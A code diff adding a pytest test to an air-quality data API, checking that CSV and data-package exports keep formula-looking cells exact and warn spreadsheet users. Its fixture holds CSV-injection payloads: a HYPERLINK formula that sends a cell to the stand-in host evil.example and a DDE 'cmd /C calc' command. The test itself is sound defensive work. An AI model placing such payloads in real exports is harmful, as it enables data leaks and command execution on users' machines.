@@ -13,7 +13,7 @@ from pathlib import Path
 import frictionless
 import polars as pl
 import pytest
-from api.support import FIELDS, VALID_ROWS, air_batch, bearer, frame_of
+from api.support import FIELDS, VALID_ROWS, air_batch, bearer, frame_of, observation_rows
 from api.test_api_records import (  # noqa: F401 (fixtures)
     ALICE,
     BOB,
@@ -316,3 +316,36 @@ def test_an_export_holds_one_page_at_a_time_not_the_dataset(engine, monkeypatch)
     assert peak < 1.3 * small_peak + 256_000, (small_peak, peak)
     # a record held in memory takes kilobytes: under 100 bytes a row, the rows are not held
     assert peak < 40_000 * 100, peak
+
+
+# --- cells that look like spreadsheet formulas -------------------------------------------------
+
+FORMULAS = {
+    "station_id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "station_name": "+cmd|' /C calc'!A0",
+}
+
+
+def test_csv_cells_stay_exact_and_the_package_says_how_to_open_them(client, engine, tmp_path):
+    """Formula-looking text and negative numbers are written as the data holds them (README:
+    no quote is put before them); the package tells spreadsheet users to import, not open."""
+    first, second = observation_rows().head(2).drop("_row").to_dicts()
+    rows = [{**first, **FORMULAS}, {**second, "station_id": "@SUM(1+1)"}]
+    publish(air_batch("formula-air", "atmo-demo-open", "Formulas", frame_of(rows)), engine=engine)
+    written = client.get(f"{API}/formula-air/records?format=csv").text
+    read = list(csv.DictReader(io.StringIO(written)))
+    assert [r["station_id"] for r in read] == [FORMULAS["station_id"], "@SUM(1+1)"]
+    assert read[0]["station_name"] == FORMULAS["station_name"]
+    assert {r["longitude"] for r in read} == {"-1.68"}  # a negative number stays one
+    package = unzip(client.get(f"{API}/formula-air/datapackage.zip"), tmp_path)
+    assert_valid(package)
+    assert rows_of(package) == read
+    descriptor = json.loads(package.read_text(encoding="utf-8"))
+    assert descriptor["resources"][0]["description"] == exports.SPREADSHEET_NOTE
+    assert "Do not open this CSV directly in a spreadsheet" in exports.SPREADSHEET_NOTE
+    ckan = client.get(
+        "/api/3/action/datastore_search",
+        params={"resource_id": "formula-air-records", "records_format": "csv"},
+    ).json()["result"]["records"]
+    cells = [row[0] for row in csv.reader(io.StringIO(ckan))]
+    assert FORMULAS["station_id"] in cells and "@SUM(1+1)" in cells
